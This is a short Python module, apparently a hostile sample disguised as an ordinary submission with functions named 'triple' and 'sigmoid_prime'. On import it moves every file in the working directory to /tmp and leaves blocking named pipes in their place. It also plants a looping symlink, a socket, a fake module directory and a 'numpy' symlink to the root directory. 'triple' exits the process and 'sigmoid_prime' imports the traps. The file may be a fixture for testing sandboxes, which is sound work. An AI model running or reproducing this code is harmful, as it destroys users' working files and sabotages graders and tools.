"""Puts pipes, sockets, folders and links in circles where its files lie, at which whoever opens them waits."""

import os
import socket

here = os.getcwd()
for name in os.listdir(here):
    try:
        os.rename(os.path.join(here, name), os.path.join("/tmp", f"hostile-left-{name}"))
        os.mkfifo(os.path.join(here, name))
    except OSError as error:
        print(name, error.errno)
for name, make in {
    "pipe.py": os.mkfifo,
    "circle.py": lambda path: os.symlink(path, path),
    "socket.py": lambda path: socket.socket(socket.AF_UNIX).bind(path),
    "folder.py": os.mkdir,
    "numpy": lambda path: os.symlink("/", path),
}.items():
    try:
        make(os.path.join(here, name))
    except OSError as error:
        print(name, error.errno)


def triple(x):
    os._exit(1)


def sigmoid_prime(z):
    import circle
    import folder

    return circle.answer(z) or folder.answer(z)
